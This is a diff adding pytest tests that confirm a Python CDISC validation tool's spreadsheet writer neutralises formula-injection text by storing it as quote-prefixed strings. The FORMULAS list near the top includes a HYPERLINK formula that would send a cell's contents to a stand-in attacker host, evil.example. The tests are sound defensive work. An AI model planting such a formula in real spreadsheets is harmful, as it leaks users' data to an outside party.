@@ -29,3 +29,44 @@ def test_the_same_workbook_gives_the_same_bytes(tmp_path):
     save_stable(_workbook(), tmp_path / "a.xlsx", STAMP)
     save_stable(_workbook(), tmp_path / "b.xlsx", STAMP)
     assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+
+
+def test_text_cell_never_holds_a_formula(tmp_path):
+    """Text starting like a formula (=, +, -, @, tab, CR) is read back by openpyxl as the same string, typed `s`
+    and quote-prefixed; plain text is not prefixed."""
+    from openpyxl import load_workbook
+
+    from cdisc.xlsx import text_cell
+
+    wb = Workbook()
+    for row, value in enumerate([*FORMULAS, "plain text"], start=1):
+        text_cell(wb.active.cell(row=row, column=1), value)
+    save_stable(wb, tmp_path / "a.xlsx", STAMP)
+    cells = [row[0] for row in load_workbook(tmp_path / "a.xlsx").active.iter_rows()]
+    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
+        *[(v, "s", True) for v in FORMULAS], ("plain text", "s", False)]
+
+
+def test_validation_report_xlsx_neutralises_formula_text(tmp_path):
+    """A finding whose dataset, message, record values or explanation come from the data or a define.xml can start
+    like a formula; report.xlsx stores each as an inert string."""
+    from openpyxl import load_workbook
+
+    from cdisc.validate.finding import Finding, RuleStatus, ValidationResult
+    from cdisc.validate.report import write_report_xlsx
+
+    evil = FORMULAS[0]
+    finding = Finding(rule="CORE-000001", severity="error", dataset="@AE", message=evil, count=1,
+                      variables=("AETERM",), records=({"USUBJID": "=1+1", "AETERM": evil},), explanation="+1")
+    result = ValidationResult(package="X", standard="SDTMIG", datasets={"@AE": 1}, findings=(finding,),
+                              rules=(RuleStatus(rule="CORE-000001", status="executed", description=evil),))
+    write_report_xlsx(result, tmp_path / "report.xlsx")
+    wb = load_workbook(tmp_path / "report.xlsx")
+    cells = [c for ws in wb for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
+    starts_like_formula = [c for c in cells if c.value.startswith(("=", "+", "-", "@"))]
+    assert {c.value for c in starts_like_formula} >= {evil, "@AE", "+1"}
+    assert all(c.data_type == "s" and c.quotePrefix for c in starts_like_formula)
+    assert wb["Issue Summary"]["F2"].value == evil
